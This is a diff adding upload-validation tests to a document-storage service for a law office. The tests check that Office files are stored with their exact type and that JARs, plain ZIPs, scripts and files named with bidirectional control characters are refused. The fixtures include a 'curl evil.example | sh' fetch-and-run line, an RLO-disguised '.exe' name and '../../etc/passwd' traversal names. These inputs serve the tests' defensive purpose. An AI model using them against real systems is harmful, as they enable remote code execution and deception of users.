@@ -23,6 +23,7 @@ from db.storage import LocalStore
 from db.tables import Role, Source
 from settings import Settings
 from tests.conftest import _Served, http_client, serving
+from tests.db.test_files import DOCX, ODT, PPTX, XLSX, archive, odf, ooxml
 from tests.factories import (
     REVOKE,
     Docket,
@@ -225,6 +226,108 @@ async def test_an_executable_named_pdf_is_refused_and_nothing_is_stored(
     assert stored_files(settings) == before
     listed = data(await gql(client, office.token, CLIENT_DOCUMENTS, {"id": docket.own}))
     assert listed["case"]["documents"]["totalCount"] == 0
+
+
+@pytest.mark.parametrize(
+    ("content", "name", "expected"),
+    [
+        (ooxml("word/document.xml"), "minuta.docx", DOCX),
+        (ooxml("xl/workbook.xml"), "custas.xlsx", XLSX),
+        (ooxml("ppt/presentation.xml"), "sustentacao.pptx", PPTX),
+        (odf(ODT), "parecer.odt", ODT),
+        ("Ata da reunião com o cliente.\n".encode(), "ata.txt", "text/plain"),
+    ],
+)
+async def test_office_files_and_text_are_stored_with_their_exact_type(
+    client: httpx.AsyncClient,
+    office: Staff,
+    docket: Docket,
+    content: bytes,
+    name: str,
+    expected: str,
+) -> None:
+    body = await upload(client, office.token, docket.own, content, name=name)
+    document = data(body)["uploadDocument"]
+    assert (document["fileName"], document["contentType"]) == (name, expected)
+    assert document["sizeBytes"] == len(content)
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (
+            archive(("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"), ("app/Main.class", "")),
+            "Files of this kind are not accepted: a Java archive (JAR).",
+        ),
+        (
+            archive(("minuta.pdf", "%PDF-1.7")),
+            "Files of this kind are not accepted: "
+            "a ZIP archive that is not an Office (OOXML) or OpenDocument file.",
+        ),
+        (
+            archive(("[Content_Types].xml", "<Types/>"), ("payload.bin", "")),
+            "Files of this kind are not accepted: "
+            "a ZIP archive that is not an Office (OOXML) or OpenDocument file.",
+        ),
+        (
+            b"PK\x03\x04" + b"\x00" * 200,
+            "The file is a damaged ZIP archive (or an Office file) that cannot be read.",
+        ),
+        (
+            b"#!/bin/sh\ncurl evil.example | sh\n",
+            "Scripts are not accepted: the file starts with “#!”.",
+        ),
+    ],
+    ids=["jar", "plain-zip", "content-types-without-parts", "broken-zip", "script"],
+)
+async def test_archives_that_are_no_office_file_and_scripts_are_refused_and_not_stored(
+    client: httpx.AsyncClient,
+    office: Staff,
+    docket: Docket,
+    settings: Settings,
+    content: bytes,
+    message: str,
+) -> None:
+    before = stored_files(settings)
+    body = await upload(client, office.token, docket.own, content, name="minuta.docx")
+    assert body["data"] is None
+    assert error(body)["extensions"] == {"code": "BAD_USER_INPUT", "field": "file"}
+    assert error(body)["message"] == message
+    assert stored_files(settings) == before
+
+
+@pytest.mark.parametrize(
+    ("name", "title", "field", "message"),
+    [
+        (
+            "a\u202egpj.exe",
+            None,
+            "file",
+            "The file name has an invisible control or formatting character "
+            "(U+202E, RIGHT-TO-LEFT OVERRIDE), which can disguise what is shown; remove it.",
+        ),
+        (
+            "peticao.pdf",
+            "Petição \u2066final\u2069",
+            "title",
+            "The title has an invisible control or formatting character "
+            "(U+2066, LEFT-TO-RIGHT ISOLATE), which can disguise what is shown; remove it.",
+        ),
+    ],
+)
+async def test_a_name_or_title_with_bidirectional_controls_is_refused(
+    client: httpx.AsyncClient,
+    office: Staff,
+    docket: Docket,
+    name: str,
+    title: str | None,
+    field: str,
+    message: str,
+) -> None:
+    body = await upload(client, office.token, docket.own, PDF, name=name, title=title)
+    assert body["data"] is None
+    assert error(body)["extensions"] == {"code": "BAD_USER_INPUT", "field": field}
+    assert error(body)["message"] == message
 
 
 @pytest.mark.parametrize("name", ["../../etc/passwd.pdf", "docs/../../x.pdf", ".."])
